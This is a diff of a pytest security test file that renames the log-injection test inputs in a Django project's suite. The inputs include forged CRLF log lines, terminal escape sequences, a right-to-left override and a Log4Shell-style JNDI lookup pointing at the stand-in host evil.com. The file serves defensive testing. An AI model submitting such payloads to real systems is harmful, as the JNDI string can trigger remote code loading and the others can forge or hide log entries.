@@ -174,22 +174,22 @@ class TestConstantTimeComparison:
         assert "compare_digest" in calls_in(clients, "has_valid_secret")
 
 
-INJECTIONS = [
-    "\r\nINFO user 1 signed in, session 0",
-    "\n",
-    "\x1b[2J\x1b[31mno problems",
-    "\x9b31m",
-    "\u2028INFO",
-    "\u202egnol",
-    "%s %(user)s {0} ${jndi:ldap://evil.example.com}",
-    "x" * 4000,
-]
+INJECTIONS = {
+    "log-line": "\r\nINFO user 1 signed in, session 0",
+    "newline": "\n",
+    "ansi-escape": "\x1b[2J\x1b[31mno problems",
+    "c1-control": "\x9b31m",
+    "line-separator": "\u2028INFO",
+    "right-to-left": "\u202egnol",
+    "format-string": "%s %(user)s {0} ${jndi:ldap://evil.example.com}",
+    "long": "x" * 4000,
+}
 
 
 @pytest.mark.attack(177)
 @pytest.mark.usefixtures("_now")
 @pytest.mark.django_db
-@pytest.mark.parametrize("text", INJECTIONS, ids=lambda text: ascii(text)[:20])
+@pytest.mark.parametrize("text", INJECTIONS.values(), ids=INJECTIONS)
 class TestLogInjection:
     """Input never reaches the log, so it cannot forge or change a line."""
 
